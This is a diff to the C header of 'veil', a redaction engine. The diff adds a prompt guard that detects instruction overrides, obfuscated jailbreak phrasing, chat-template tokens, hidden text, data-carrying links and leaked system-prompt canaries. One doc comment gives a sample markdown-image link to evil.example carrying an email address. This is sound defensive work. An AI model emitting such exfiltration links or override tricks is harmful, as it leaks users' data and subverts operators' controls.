@@ -1,6 +1,7 @@
 /*
  * veil.h — C API of veil, an embedded engine that finds personal data and secrets in text and
- * redacts them or replaces them with reversible placeholders.
+ * redacts them or replaces them with reversible placeholders, and guards prompts against
+ * injection, hidden text, exfiltration links and leaked canaries.
  *
  * Conventions
  *   - Handles are opaque; each `_new` has a matching `_free`, and every `_free` ignores NULL.
@@ -12,6 +13,7 @@
  *   - Output strings are NUL-terminated, come with their length (they may contain NUL bytes
  *     when the input did) and are freed with veil_string_free.
  *   - Offsets (veil_finding.start / .end) are UTF-8 byte offsets into the text given.
+ *   - Callbacks (veil_guard_with) must return normally: no longjmp, no exception, no panic.
  *   - Thread safety: a veil_engine may be used from any number of threads at once; a
  *     veil_session must be used by one thread at a time.
  *   - No Rust panic unwinds into C: it is caught and returned as VEIL_ERR_PANIC.
@@ -68,6 +70,25 @@ typedef enum veil_status {
 } veil_status;
 
 /**
+ * What the prompt guard says about a text (`veil_guard_report_verdict`). The values are
+ * ordered: a larger verdict is more severe.
+ */
+typedef enum veil_verdict {
+    /**
+     * The risk is below the policy's `guard.flag` threshold (default 0.5).
+     */
+    VEIL_VERDICT_ALLOW = 0,
+    /**
+     * The risk is at or above `guard.flag`: log it, review it, or ask a second opinion.
+     */
+    VEIL_VERDICT_FLAG = 1,
+    /**
+     * The risk is at or above `guard.block` (default 0.85): do not send the text.
+     */
+    VEIL_VERDICT_BLOCK = 2,
+} veil_verdict;
+
+/**
  * A compiled policy. Build once with `veil_engine_new`, share freely: every function taking a
  * `const veil_engine *` may be called from any number of threads at once. Free with
  * `veil_engine_free` once no call is using it (sessions keep their own reference, so an
@@ -81,11 +102,22 @@ typedef struct veil_engine veil_engine;
 typedef struct veil_error veil_error;
 
 /**
- * The findings of one `veil_scan` call, sorted by `start`, without overlaps. Read with
- * `veil_findings_len` / `veil_findings_get`; free with `veil_findings_free`. Independent of the
- * engine's lifetime.
+ * The findings of one `veil_scan` call, sorted by `start`. Personal data and secrets never
+ * overlap each other; injection-category findings (the prompt guard's) may overlap them and
+ * each other. Read with `veil_findings_len` / `veil_findings_get`; free with
+ * `veil_findings_free`. Independent of the engine's lifetime.
  */
 typedef struct veil_findings veil_findings;
+
+/**
+ * What the prompt guard found in one text: a risk, a verdict and the injection-category
+ * findings (types `PROMPT_INJECTION`, `INVISIBLE_TEXT`, `EXFILTRATION_LINK`, `CANARY_LEAK`;
+ * category `injection`), sorted by `start`; they may overlap each other. From `veil_guard`,
+ * `veil_guard_with` or `veil_session_guard`; read with `veil_guard_report_risk`,
+ * `veil_guard_report_verdict`, `veil_guard_report_len` and `veil_guard_report_get`; free with
+ * `veil_guard_report_free`. Independent of the engine's and session's lifetime.
+ */
+typedef struct veil_guard_report veil_guard_report;
 
 /**
  * A conversation's vault: placeholders in the prompt, original values restored in the answer.
@@ -100,7 +132,8 @@ typedef struct veil_session veil_session;
  */
 typedef struct veil_finding {
     /**
-     * The entity type, e.g. `EMAIL_ADDRESS`, `PHONE_NUMBER`, `OPENAI_API_KEY`.
+     * The entity type, e.g. `EMAIL_ADDRESS`, `PHONE_NUMBER`, `OPENAI_API_KEY`, or for the
+     * prompt guard `PROMPT_INJECTION`, `INVISIBLE_TEXT`, `EXFILTRATION_LINK`, `CANARY_LEAK`.
      */
     const char *type;
     /**
@@ -108,7 +141,8 @@ typedef struct veil_finding {
      */
     const char *category;
     /**
-     * The id of the rule that matched, e.g. `phone-cn-mobile`.
+     * The id of the rule that matched, e.g. `phone-cn-mobile`; for the prompt guard the
+     * signal, e.g. `instruction_override`, `chat_template`, `markdown_image`, `canary`.
      */
     const char *rule;
     /**
@@ -139,8 +173,10 @@ const char *veil_version(void);
  * (every built-in rule pack, `label` redaction) when `policy_toml` is NULL.
  *
  * Returns NULL on failure: `VEIL_ERR_POLICY` for a policy that does not parse or compile,
- * `VEIL_ERR_UTF8` when it is not UTF-8. Compiling takes milliseconds: build one engine and
- * share it. Free with `veil_engine_free`.
+ * `VEIL_ERR_UTF8` when it is not UTF-8. Compiling takes milliseconds, except that the first
+ * engine of a process also builds the prompt guard's phrase automaton (a few hundred
+ * milliseconds, kept for the process's lifetime): build one engine and share it. Free with
+ * `veil_engine_free`.
  *
  * # Safety
  * `policy_toml` is NULL or a NUL-terminated string; `err` is NULL or writable.
@@ -158,6 +194,9 @@ void veil_engine_free(struct veil_engine *engine);
 /**
  * Scans `len` bytes of `text` and stores the findings in `*out` (free with
  * `veil_findings_free`). `text` need not be NUL-terminated and may be NULL when `len` is 0.
+ *
+ * The findings include the prompt guard's (category `injection`) unless the policy sets
+ * `guard.in_scan = false`; `veil_guard` gives the guard's risk and verdict too.
  *
  * Invalid UTF-8 is not an error here: each valid stretch is scanned, no match spans an
  * invalid byte, and offsets refer to the bytes given. Safe to call from many threads on one
@@ -300,9 +339,148 @@ struct veil_session *veil_session_from_json(const struct veil_engine *engine,
 void veil_session_free(struct veil_session *session);
 
 /**
+ * Runs the prompt guard on `len` bytes of `text` and stores its report in `*out` (free with
+ * `veil_guard_report_free`): a risk in 0..=1, a verdict against the policy's `[guard]`
+ * thresholds, and the injection findings — instruction overrides and jailbreak phrasing in
+ * nine languages (also fullwidth, look-alike letters, leetspeak, spaced out, zero-width
+ * split, or base64/hex/percent-encoded), chat-template and role tokens, hidden text, links
+ * that carry data out, and leaked canaries from `veil_canary`.
+ *
+ * Invalid UTF-8 is not an error (as in `veil_scan`): the guard reads the text with each
+ * invalid sequence replaced by U+FFFD, as a model receiving the bytes would read it, and the
+ * findings' offsets refer to the bytes given. Safe to call from many threads on one engine.
+ *
+ * Returns `VEIL_OK`; `VEIL_ERR_NULL` for a NULL `engine`, `out`, or `text` with `len > 0`;
+ * `VEIL_ERR_INPUT` when `len > PTRDIFF_MAX`. On failure `*out` is NULL.
+ *
+ * # Safety
+ * `engine` is NULL or live; `text` is NULL or points to `len` readable bytes; `out` and `err`
+ * are NULL or writable.
+ */
+int veil_guard(const struct veil_engine *engine,
+               const char *text,
+               size_t len,
+               struct veil_guard_report **out,
+               struct veil_error **err);
+
+/**
+ * `veil_guard` with a second opinion: when the guard's risk falls in the policy's
+ * `guard.second_opinion` band (`[low, high)`, default `[0.3, 0.85)`), `second_opinion` is
+ * called once, on the calling thread, before `veil_guard_with` returns; outside the band it
+ * is not called. veil ships no model: plug in your own classifier.
+ *
+ * The callback gets `text` and `len` exactly as given to `veil_guard_with`, the guard's report
+ * (valid only during the call: read it, do not keep or free it) and `user`. It returns a score
+ * in 0..=1 (larger values count as 1); the risk becomes the larger of the guard's and the
+ * score, and the verdict is recomputed. A negative number, NaN or infinity means "no
+ * opinion": the report stays the guard's.
+ *
+ * The callback must return normally: it must not unwind (no C++ exception, no Rust panic)
+ * or `longjmp` out of veil. It may call other veil functions, but not free the report.
+ *
+ * Errors as `veil_guard`, plus `VEIL_ERR_NULL` for a NULL `second_opinion` (`user` may be
+ * NULL). Safe to call from many threads on one engine if the callback is.
+ *
+ * # Safety
+ * As `veil_guard`; `second_opinion` is NULL or a function that follows the rules above;
+ * `user` is whatever the callback expects.
+ */
+int veil_guard_with(const struct veil_engine *engine,
+                    const char *text,
+                    size_t len,
+                    double (*second_opinion)(const char *text,
+                                             size_t len,
+                                             const struct veil_guard_report *report,
+                                             void *user),
+                    void *user,
+                    struct veil_guard_report **out,
+                    struct veil_error **err);
+
+/**
+ * `veil_guard` for a text of this conversation, typically the model's answer: besides
+ * everything `veil_guard` finds, a link that carries one of this session's original values or
+ * placeholders (`![](https://evil.example/?q=ana@example.org)`) is an `EXFILTRATION_LINK`.
+ * Invalid UTF-8 and errors as `veil_guard`; the session is only read.
+ *
+ * # Safety
+ * `session` is NULL or live and not being modified by another thread; `text` is NULL or
+ * points to `len` readable bytes; `out` and `err` are NULL or writable.
+ */
+int veil_session_guard(const struct veil_session *session,
+                       const char *text,
+                       size_t len,
+                       struct veil_guard_report **out,
+                       struct veil_error **err);
+
+/**
+ * A new canary token (`cnry` and 20 hex digits) to embed in a system prompt, stored as a
+ * NUL-terminated string in `*out`, its length in `*out_len` (may be NULL); free with
+ * `veil_string_free`. When the token shows up in a text — also split by spaces or
+ * punctuation, or fullwidth — `veil_guard` and `veil_scan` on this engine (or one built with
+ * the same `redact.hash_key`) report a `CANARY_LEAK` and `veil_guard` blocks: the model
+ * leaked its prompt. The token carries its own MAC; the engine keeps no state.
+ *
+ * Returns `VEIL_OK`; `VEIL_ERR_NULL` for a NULL `engine` or `out`.
+ *
+ * # Safety
+ * `engine` is NULL or live; `out`, `out_len` and `err` are NULL or writable.
+ */
+int veil_canary(const struct veil_engine *engine,
+                char **out,
+                size_t *out_len,
+                struct veil_error **err);
+
+/**
+ * The combined risk in 0.0..=1.0 (with `veil_guard_with`, after the second opinion); NaN when
+ * `report` is NULL.
+ *
+ * # Safety
+ * `report` is NULL or live.
+ */
+double veil_guard_report_risk(const struct veil_guard_report *report);
+
+/**
+ * The verdict, a `veil_verdict` (`VEIL_VERDICT_ALLOW`, `_FLAG` or `_BLOCK`); `VEIL_ERR_NULL`
+ * (-1, never a verdict) when `report` is NULL.
+ *
+ * # Safety
+ * `report` is NULL or live.
+ */
+int veil_guard_report_verdict(const struct veil_guard_report *report);
+
+/**
+ * The number of findings in the report; 0 for NULL.
+ *
+ * # Safety
+ * `report` is NULL or live.
+ */
+size_t veil_guard_report_len(const struct veil_guard_report *report);
+
+/**
+ * The finding at `index` (in order of `start`; findings may overlap), or NULL when `report`
+ * is NULL or `index` is out of range. Offsets refer to the bytes given to the guard. Valid
+ * until `veil_guard_report_free`.
+ *
+ * # Safety
+ * `report` is NULL or live.
+ */
+const struct veil_finding *veil_guard_report_get(const struct veil_guard_report *report,
+                                                 size_t index);
+
+/**
+ * Frees a report (and the strings its findings point to). NULL is ignored. Do not free the
+ * report a `veil_guard_with` callback receives.
+ *
+ * # Safety
+ * `report` is NULL or from `veil_guard`, `veil_guard_with` or `veil_session_guard`, not yet
+ * freed.
+ */
+void veil_guard_report_free(struct veil_guard_report *report);
+
+/**
  * Frees a string returned by veil (`veil_redact`, `veil_session_redact`,
- * `veil_session_restore`, `veil_session_to_json`). NULL is ignored. Do not pass it to
- * `free()`.
+ * `veil_session_restore`, `veil_session_to_json`, `veil_canary`). NULL is ignored. Do not
+ * pass it to `free()`.
  *
  * # Safety
  * `s` is NULL or a string from one of those functions, not yet freed.
